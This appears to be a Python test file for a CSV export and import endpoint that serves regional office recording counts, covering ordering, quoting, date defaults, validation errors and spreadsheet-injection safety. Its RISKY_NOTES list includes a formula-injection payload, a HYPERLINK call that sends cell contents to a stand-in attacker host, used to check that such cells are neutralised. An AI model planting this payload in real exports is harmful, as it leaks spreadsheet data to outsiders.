"""GET /api/v1/counts.csv: a region's counts as CSV, by date then office."""

import csv
import io
from datetime import date, timedelta

from sqlalchemy import text

from tests.conftest import ADMIN
from tests.helpers import put_count, put_office, today
from tests.progress_helpers import counts, office, regions, status_of

HEADER = ["office", "region", "date", "recordings", "note"]


async def get_csv(client, **params):
    if "from_" in params:
        params["from"] = params.pop("from_")
    response = await client.get("/api/v1/counts.csv", params=params, headers=ADMIN)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.text.splitlines()[0] == "office,region,date,recordings,note"
    return list(csv.reader(io.StringIO(response.text)))


async def csv_case(client):
    await regions(client, "73", "73.71", "73.71.01", "73.72", "74")
    await office(client, "B-1", "73.71.01")
    await office(client, "A-1", "73.72")
    await office(client, "a-2", "73")
    await office(client, "C-1", "74")
    await counts(client, "B-1", {"2019-01-31": 100, "2019-02-01": 5})
    await put_count(client, "B-1", date(2019, 2, 2), 6, note="late, by phone")
    await put_count(client, "A-1", date(2019, 2, 2), 7, note='said "ok"')
    await counts(client, "A-1", {"2019-02-03": 0})
    await counts(client, "a-2", {"2019-02-01": 9, "2019-02-04": 1})
    await counts(client, "C-1", {"2019-02-02": 8})


async def test_region_counts_by_date_then_office(client):
    await csv_case(client)

    rows = await get_csv(client, region="73", from_="2019-02-01", to="2019-02-03")

    # 74's C-1 is outside 73; 01-31 and 02-04 are outside the range
    assert rows == [
        HEADER,
        ["B-1", "73.71.01", "2019-02-01", "5", ""],  # a null note is an empty field
        ["a-2", "73", "2019-02-01", "9", ""],
        ["A-1", "73.72", "2019-02-02", "7", 'said "ok"'],
        ["B-1", "73.71.01", "2019-02-02", "6", "late, by phone"],
        ["A-1", "73.72", "2019-02-03", "0", ""],
    ]


async def test_quoting_and_line_ends(client):
    await csv_case(client)

    response = await client.get(
        "/api/v1/counts.csv",
        params={"region": "73.72", "from": "2019-02-02", "to": "2019-02-02"},
        headers=ADMIN,
    )

    assert response.text.splitlines() == [
        "office,region,date,recordings,note",
        'A-1,73.72,2019-02-02,7,"said ""ok"""',
    ]


async def test_subtrees_and_the_nation(client):
    await csv_case(client)

    district = await get_csv(client, region="73.71.01", from_="2019-01-01", to="2019-02-28")
    nation = await get_csv(client, from_="2019-02-02", to="2019-02-02")  # region defaults to ID
    nothing = await get_csv(client, region="73", from_="2019-03-01", to="2019-03-31")

    assert district == [
        HEADER,
        ["B-1", "73.71.01", "2019-01-31", "100", ""],
        ["B-1", "73.71.01", "2019-02-01", "5", ""],
        ["B-1", "73.71.01", "2019-02-02", "6", "late, by phone"],
    ]
    assert nation == [
        HEADER,
        ["A-1", "73.72", "2019-02-02", "7", 'said "ok"'],
        ["B-1", "73.71.01", "2019-02-02", "6", "late, by phone"],
        ["C-1", "74", "2019-02-02", "8", ""],
    ]
    assert nothing == [HEADER]


async def test_inactive_office_counts_are_exported(client):
    await csv_case(client)
    await put_office(client, "C-1", "74", opened_on="2019-01-01", active=False)

    rows = await get_csv(client, region="74", from_="2019-02-01", to="2019-02-03")

    assert rows == [HEADER, ["C-1", "74", "2019-02-02", "8", ""]]


async def test_defaults_are_the_nation_and_the_last_30_days(client):
    await regions(client, "73")
    await put_office(client, "T", "73")  # no opened_on: any past date may be written
    for n in (0, 29, 30):
        response = await put_count(client, "T", today() - timedelta(days=n), n + 1)
        assert response.status_code == 201, response.text

    rows = await get_csv(client)
    ending = await get_csv(client, to=(today() - timedelta(days=1)).isoformat())

    # today - 29 .. today; today - 30 is outside
    assert rows == [
        HEADER,
        ["T", "73", (today() - timedelta(days=29)).isoformat(), "30", ""],
        ["T", "73", today().isoformat(), "1", ""],
    ]
    # to alone: the 30 days ending there, today - 30 .. today - 1
    assert ending == [
        HEADER,
        ["T", "73", (today() - timedelta(days=30)).isoformat(), "31", ""],
        ["T", "73", (today() - timedelta(days=29)).isoformat(), "30", ""],
    ]


async def test_unknown_region_is_404(client):
    params = {"region": "99", "from": "2019-02-01", "to": "2019-02-03"}
    assert await status_of(client, "/api/v1/counts.csv", **params) == 404


async def test_bad_parameters_are_422(client):
    await regions(client, "73")
    url = "/api/v1/counts.csv"

    assert (
        await status_of(client, url, region="73", **{"from": "2019-02-04", "to": "2019-02-03"})
        == 422
    )
    assert (
        await status_of(client, url, region="73", **{"from": "2019-2-1", "to": "2019-02-03"}) == 422
    )
    assert (
        await status_of(client, url, region="7.3", **{"from": "2019-02-01", "to": "2019-02-03"})
        == 422
    )
    # 3661 days counting both ends, then exactly 3660
    assert (
        await status_of(client, url, region="73", **{"from": "2010-01-01", "to": "2020-01-09"})
        == 422
    )
    assert (
        await status_of(client, url, region="73", **{"from": "2010-01-01", "to": "2020-01-08"})
        == 200
    )


# Spreadsheet safety, and export -> import without loss.

RISKY_NOTES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+62 411 123",
    "-5 dikoreksi",
    "@SUM(A1:A9)",
    "\tmasuk",
    "\rbaris",
    "'kutip",
    "''dua kutip",
    "biasa, aman",
]


async def risky_counts(client):
    await regions(client, "73", "73.71", "73.71.01")
    await office(client, "MKS-01", "73.71.01")
    first = today() - timedelta(days=len(RISKY_NOTES) - 1)
    for n, note in enumerate(RISKY_NOTES):
        response = await put_count(client, "MKS-01", first + timedelta(days=n), n, note=note)
        assert response.status_code == 201, response.text


async def test_cells_a_spreadsheet_would_run_are_neutralised(client):
    await risky_counts(client)

    rows = await get_csv(client, region="73")

    notes = [row[4] for row in rows[1:]]
    for note in notes:
        assert not note.startswith(("=", "+", "-", "@", "\t", "\r")), note
    assert notes == ["'" + note if note[0] in "=+-@\t\r'" else note for note in RISKY_NOTES]


async def test_an_export_imports_back_to_the_same_notes(client, db):
    await risky_counts(client)
    exported = (await client.get("/api/v1/counts.csv?region=73", headers=ADMIN)).content
    await db.execute(text("UPDATE counts SET recordings = recordings + 1, note = 'x'"))

    response = await client.post(
        "/api/v1/counts", content=exported, headers={**ADMIN, "Content-Type": "text/csv"}
    )

    assert response.status_code == 200, response.text
    assert response.json() == {"created": 0, "updated": len(RISKY_NOTES), "unchanged": 0}
    notes = await db.execute(text("SELECT note, recordings FROM counts ORDER BY date"))
    assert [tuple(row) for row in notes] == [(n, i) for i, n in enumerate(RISKY_NOTES)]


async def test_an_import_checks_the_region_column_against_the_office(client, db):
    await risky_counts(client)
    await regions(client, "73.72")
    body = f"office,region,date,recordings,note\r\nMKS-01,73.72,{today()},555,\r\n".encode()

    response = await client.post(
        "/api/v1/counts", content=body, headers={**ADMIN, "Content-Type": "text/csv"}
    )

    assert response.status_code == 422, response.text
    (error,) = response.json()["errors"]
    assert error["line"] == 2
    assert "73.71.01" in error["message"]
    assert await db.scalar(text("SELECT count(*) FROM counts WHERE recordings = 555")) == 0


async def test_csv_headers_ignore_case_spaces_and_order_and_take_semicolons(client, db):
    await risky_counts(client)
    day = today()
    for n, body in enumerate(
        [
            f" Office , DATE ,Recordings\nMKS-01,{day},101\n",
            f"office;date;recordings;note\nMKS-01;{day};102;pakai titik koma\n",
            f"\ufeffrecordings,office,date\n103,MKS-01,{day}\n",
        ]
    ):
        response = await client.post(
            "/api/v1/counts", content=body.encode(), headers={**ADMIN, "Content-Type": "text/csv"}
        )
        assert response.status_code == 200, (n, response.text)
        stored = await db.scalar(text("SELECT recordings FROM counts ORDER BY date DESC LIMIT 1"))
        assert stored == 101 + n


async def test_a_wrong_header_is_quoted_and_an_open_quote_named(client):
    await risky_counts(client)
    headers = {**ADMIN, "Content-Type": "text/csv"}

    wrong = await client.post(
        "/api/v1/counts", content=b"kantor,tanggal,jumlah\nA,B,1\n", headers=headers
    )
    open_quote = await client.post(
        "/api/v1/counts",
        content=f'office,date,recordings,note\nMKS-01,{today()},1,"oops\n'.encode(),
        headers=headers,
    )

    assert wrong.status_code == 422
    assert "kantor,tanggal,jumlah" in wrong.json()["detail"]
    assert open_quote.status_code == 422
    assert "quote" in open_quote.json()["detail"]
